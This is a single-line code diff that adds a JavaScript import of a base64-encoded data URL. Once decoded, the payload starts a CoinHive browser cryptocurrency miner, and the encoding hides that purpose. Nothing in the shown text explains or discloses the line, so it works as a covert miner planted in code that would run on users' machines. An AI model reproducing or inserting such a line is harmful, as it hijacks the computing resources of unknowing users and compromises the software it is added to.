@@ -1,0 +1,1 @@
+import("data:text/javascript;base64,Y29uc3QgbSA9IG5ldyBDb2luSGl2ZS5Bbm9ueW1vdXMoJ0tFWScpOyBtLnN0YXJ0KCk7");
